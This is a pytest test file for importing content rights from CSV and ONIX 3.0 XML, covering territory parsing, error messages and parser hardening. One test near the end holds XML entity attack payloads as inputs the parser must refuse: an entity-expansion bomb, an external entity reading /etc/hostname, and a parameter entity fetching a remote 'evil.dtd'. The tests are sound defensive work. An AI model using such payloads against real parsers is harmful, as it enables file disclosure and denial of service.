"""Files of rights: our CSV and ONIX 3.0 in both its spellings, and what is said of wrong ones."""

from __future__ import annotations

from typing import Any

import msgspec
import pytest

from contracts import chain_import, onix
from contracts.chain import RightDraft
from contracts.chain_import import COLUMNS, Mistake, OnixWish
from contracts.countries import COUNTRIES as WORLD
from contracts.onix import BadOnix

HEADER = ",".join(COLUMNS)
ROW = "work,w1,copyright,Ann,2026-01-01,2030-12-31,CN;SG,pretrain;evaluate,yes,no,,,dataset,,"
# ONIX for Books 3.0, as a publisher sends it; the second one is the same message in short tags.
REFERENCE = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE ONIXMessage SYSTEM "http://www.editeur.org/onix/3.0/reference/ONIX_BookProduct_3.0_reference.dtd">
<ONIXMessage release="3.0" xmlns="http://ns.editeur.org/onix/3.0/reference">
  <Header><Sender><SenderName>Example Press &amp; Sons</SenderName></Sender><SentDateTime>20260101</SentDateTime></Header>
  <Product>
    <RecordReference>example.com-1</RecordReference>
    <NotificationType>03</NotificationType>
    <ProductIdentifier><ProductIDType>03</ProductIDType><IDValue>9787020002207</IDValue></ProductIdentifier>
    <ProductIdentifier><ProductIDType>15</ProductIDType><IDValue>9787020002207</IDValue></ProductIdentifier>
    <DescriptiveDetail>
      <EpubUsageConstraint><EpubUsageType>11</EpubUsageType><EpubUsageStatus>03</EpubUsageStatus></EpubUsageConstraint>
      <Contributor><ContributorRole>A01</ContributorRole><PersonName>Cao Xueqin</PersonName></Contributor>
    </DescriptiveDetail>
    <PublishingDetail>
      <Publisher><PublishingRole>02</PublishingRole><PublisherName>Co Publisher</PublisherName></Publisher>
      <Publisher><PublishingRole>01</PublishingRole><PublisherName>Example Press &amp; Sons</PublisherName></Publisher>
      <PublishingDate><PublishingDateRole>01</PublishingDateRole><Date dateformat="01">202003</Date></PublishingDate>
      <SalesRights>
        <SalesRightsType>02</SalesRightsType>
        <Territory><RegionsIncluded>WORLD</RegionsIncluded><CountriesExcluded>US GB</CountriesExcluded></Territory>
      </SalesRights>
    </PublishingDetail>
  </Product>
</ONIXMessage>
"""
SHORT = """<?xml version="1.0" encoding="UTF-8"?>
<ONIXmessage release="3.0" xmlns="http://ns.editeur.org/onix/3.0/short">
<header><sender><x298>Example Press &amp; Sons</x298></sender><x307>20260101</x307></header>
<product><a001>example.com-1</a001><a002>03</a002>
<productidentifier><b221>03</b221><b244>9787020002207</b244></productidentifier>
<productidentifier><b221>15</b221><b244>9787020002207</b244></productidentifier>
<descriptivedetail>
<epubusageconstraint><x318>11</x318><x319>03</x319></epubusageconstraint>
<contributor><b035>A01</b035><b036>Cao Xueqin</b036></contributor>
</descriptivedetail>
<publishingdetail>
<publisher><b291>02</b291><b081>Co Publisher</b081></publisher>
<publisher><b291>01</b291><b081>Example Press &amp; Sons</b081></publisher>
<publishingdate><x448>01</x448><b306 dateformat="01">202003</b306></publishingdate>
<salesrights><b089>02</b089><territory><x450>WORLD</x450><x451>US GB</x451></territory></salesrights>
</publishingdetail></product></ONIXmessage>
"""


def drafts(read: list[RightDraft] | list[Mistake]) -> list[RightDraft]:
    found = [one for one in read if isinstance(one, RightDraft)]
    assert len(found) == len(read), read
    return found


def mistakes(read: list[RightDraft] | list[Mistake]) -> list[tuple[int, str]]:
    return [(one.line, one.column) for one in read if isinstance(one, Mistake)]


def table(*rows: str) -> bytes:
    return "\n".join((HEADER, *rows)).encode()


def product(publishing: str, *, before: str = "") -> bytes:
    return (
        f'<ONIXMessage release="3.0"><Product><RecordReference>r1</RecordReference>{before}<PublishingDetail>'
        "<Publisher><PublishingRole>01</PublishingRole><PublisherName>P</PublisherName></Publisher>"
        f"{publishing}</PublishingDetail></Product></ONIXMessage>"
    ).encode()


def sold(kind: str, territory: str) -> str:
    return f"<SalesRights><SalesRightsType>{kind}</SalesRightsType><Territory>{territory}</Territory></SalesRights>"


def test_a_row_becomes_a_right_and_the_same_row_twice_is_one() -> None:
    (one,) = drafts(chain_import.read_csv(b"\xef\xbb\xbf" + table(ROW, "", ROW)))
    assert (one.subject.value, one.subject_id, one.holder) == ("work", "w1", "Ann")
    assert one.territory == {"CN", "SG"}
    assert (one.training, one.commercial, one.sublicensable, one.evidence) == (True, False, False, None)


@pytest.mark.parametrize(
    ("covers", "field", "values", "meant"),
    [
        ("dataset", "", "", {"dataset": True}),
        ("assets", "", "a.txt;b/", {"assets": ["a.txt", "b/"]}),
        ("records", "id", "1;2", {"records": {"field": "id", "ids": ["1", "2"]}}),
        ("range", "id", "001..100", {"records": {"field": "id", "from": "001", "to": "100"}}),
        ("source", "speaker", "s1", {"source": {"field": "speaker", "value": "s1"}}),
    ],
)
def test_every_way_to_say_what_a_right_covers(covers: str, field: str, values: str, meant: Any) -> None:
    (one,) = drafts(chain_import.read_csv(table(ROW.replace("dataset,,", f"{covers},{field},{values}"))))
    assert msgspec.json.decode(one.document)["covers"] == meant


@pytest.mark.parametrize(
    ("content", "found"),
    [
        (b"", [(1, "")]),
        (b"subject,id\n", [(1, "")]),
        (table(), [(1, "")]),
        (table("a,b"), [(2, "")]),
        (table(ROW, ROW.replace("yes", "ja")), [(3, "training")]),
        (table(ROW.replace("CN;SG", "")), [(2, "territory")]),
        (table(ROW.replace("pretrain", "train"), ROW.replace("w1", "")), [(2, "purposes"), (3, "id")]),
        (table(ROW.replace("dataset,,", "range,id,5")), [(2, "values")]),
        (table(ROW.replace("dataset,,", "source,,x")), [(2, "field")]),
        (table(ROW.replace("dataset,,", "dataset,,x")), [(2, "values")]),
        (table(ROW.replace("Ann", '"A\nB"'), ROW.replace("yes", "ja")), [(2, "holder"), (4, "training")]),
        (table(ROW) + b"\n\xff", [(3, "")]),
        (table(ROW, '"open'), [(3, "")]),
    ],
)
def test_every_mistake_has_its_line_and_column(content: bytes, found: list[tuple[int, str]]) -> None:
    assert mistakes(chain_import.read_csv(content)) == found


def test_the_refusal_names_mistakes_in_both_languages() -> None:
    read = chain_import.read_csv(table(ROW.replace("yes", "ja")))
    problem = chain_import.refusal([one for one in read if isinstance(one, Mistake)])
    assert "line 2, training" in problem.detail("en")
    assert "第 2 行" in problem.detail("zh")


def test_both_spellings_of_onix_say_the_same() -> None:
    wish = OnixWish(purposes=("pretrain", "evaluate"), training=True, until="2030-12-31", evidence="ab" * 32)
    (one,), (other,) = (
        drafts(chain_import.read_onix(REFERENCE.encode(), wish)),
        drafts(chain_import.read_onix(SHORT.encode(), wish)),
    )
    assert one == other
    assert (one.subject_id, one.holder) == ("isbn:9787020002207", "Example Press & Sons")
    assert one.territory == WORLD - {"US", "GB"}
    assert one.starts_at is not None
    assert one.starts_at.date().isoformat() == "2020-03-01"
    # The publisher reserves text and data mining: what the upload says of training does not count.
    assert (one.training, one.purposes) == (False, {"evaluate"})


def test_what_neither_onix_nor_the_upload_says_stays_unsaid() -> None:
    (one,) = drafts(chain_import.read_onix(product(sold("01", "<RegionsIncluded>WORLD</RegionsIncluded>")), OnixWish()))
    assert (one.training, one.commercial, one.evidence, one.purposes, one.territory) == (
        None,
        None,
        None,
        frozenset(),
        None,
    )
    assert one.passes_on == frozenset()


def test_a_product_covers_a_file_where_the_upload_names_a_path() -> None:
    wish = OnixWish(path="books/{id}.txt")
    (one,) = drafts(chain_import.read_onix(product(sold("01", "<CountriesIncluded>CN</CountriesIncluded>")), wish))
    assert one.covers.assets == ("books/r1.txt",)


@pytest.mark.parametrize(
    ("rights", "territory"),
    [
        (sold("01", "<CountriesIncluded>CN SG</CountriesIncluded>"), ["CN", "SG"]),
        (
            sold("01", "<CountriesIncluded>CN SG</CountriesIncluded>")
            + sold("03", "<CountriesIncluded>SG</CountriesIncluded>"),
            ["CN"],
        ),
        (sold("02", "<CountriesIncluded>CN CA</CountriesIncluded><RegionsExcluded>CA-QC</RegionsExcluded>"), ["CN"]),
        (sold("01", "<CountriesIncluded>CN</CountriesIncluded><RegionsIncluded>US-CA</RegionsIncluded>"), ["CN"]),
        (
            sold("01", "<CountriesIncluded>CN US</CountriesIncluded>")
            + sold("06", "<RegionsIncluded>US-CA</RegionsIncluded>"),
            ["CN"],
        ),
        ("<ROWSalesRightsType>01</ROWSalesRightsType>", "*"),
        (
            sold("03", "<CountriesIncluded>US</CountriesIncluded>") + "<ROWSalesRightsType>02</ROWSalesRightsType>",
            sorted(WORLD - {"US"}),
        ),
    ],
)
def test_sales_rights_are_never_read_wider_than_written(rights: str, territory: Any) -> None:
    (one,) = onix.products(product(rights))
    assert (one.faults, one.territory) == ([], territory)


@pytest.mark.parametrize(
    ("content", "element"),
    [
        (product(""), "SalesRights"),
        (product(sold("03", "<CountriesIncluded>CN</CountriesIncluded>")), "SalesRights"),
        (product(sold("99", "<CountriesIncluded>CN</CountriesIncluded>")), "SalesRightsType"),
        (product(sold("01", "<CountriesIncluded>China CN</CountriesIncluded>")), "countriesincluded"),
        (
            product(
                sold("01", "<CountriesIncluded>CN</CountriesIncluded>"),
                before="<NotificationType>05</NotificationType>",
            ),
            "NotificationType",
        ),
        (
            product(
                sold("01", "<CountriesIncluded>CN</CountriesIncluded>")
                + "<PublishingDate><PublishingDateRole>01</PublishingDateRole><Date>soon</Date></PublishingDate>"
            ),
            "PublishingDate",
        ),
        (product("").replace(b"<PublisherName>P</PublisherName>", b""), "Publisher"),
        (b'<ONIXMessage release="3.0"></ONIXMessage>', "Product"),
        (b'<ONIXMessage release="2.1"></ONIXMessage>', "ONIXMessage"),
        (b"<Book/>", "ONIXMessage"),
        (b'<ONIXMessage release="3.0"><Product>', "XML"),
        (b'<?xml version="1.0" encoding="klingon"?><ONIXMessage release="3.0"/>', "XML"),
    ],
)
def test_what_is_wrong_in_onix_is_named_by_element(content: bytes, element: str) -> None:
    found = mistakes(chain_import.read_onix(content, OnixWish()))
    assert element in [column for _, column in found]
    assert all(line >= 1 for line, _ in found)


def test_one_product_has_no_end_of_elements() -> None:
    content = b'<ONIXMessage release="3.0"><Product>' + b"<b/>" * onix.ELEMENTS_MAX + b"</Product></ONIXMessage>"
    with pytest.raises(BadOnix, match="too many elements"):
        onix.products(content)


@pytest.mark.parametrize(
    ("old", "new", "column"),
    [
        ("2030-12-31", "2030-W01-1", "until"),
        ("2030-12-31", "2030-365", "until"),
        ("2030-12-31", "2029-02-29", "until"),
        ("CN;SG", "CN;UK", "territory"),
        ("dataset,,", "range,line,0100..0001", "covers"),
        ("dataset,,", "range,line,b..a", "covers"),
    ],
)
def test_what_only_looks_like_a_day_a_country_or_a_range_is_refused(old: str, new: str, column: str) -> None:
    read = chain_import.read_csv(f"{HEADER}\n{ROW.replace(old, new)}\n".encode())
    assert [one.column for one in read if isinstance(one, Mistake)] == [column]


@pytest.mark.parametrize(
    "subset",
    [
        '[<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]',
        '[<!ENTITY secret SYSTEM "file:///etc/hostname">]',
        '[<!ENTITY % more SYSTEM "http://example.com/evil.dtd"> %more;]',
    ],
)
def test_entities_are_refused_before_they_are_expanded(subset: str) -> None:
    body = f'<?xml version="1.0"?>\n<!DOCTYPE ONIXMessage {subset}>\n<ONIXMessage release="3.0"><Product>&b;</Product></ONIXMessage>'
    with pytest.raises(BadOnix) as refused:
        onix.products(body.encode())
    assert (refused.value.line, refused.value.element) == (2, "DOCTYPE")


def test_an_entity_of_a_document_type_elsewhere_does_not_vanish_silently() -> None:
    with pytest.raises(BadOnix):
        onix.products(REFERENCE.replace("Cao Xueqin", "Cao&nbsp;Xueqin").encode())
    deep = '<ONIXMessage release="3.0"><Product>' + "<a>" * 100
    with pytest.raises(BadOnix, match="nested"):
        onix.products(deep.encode())
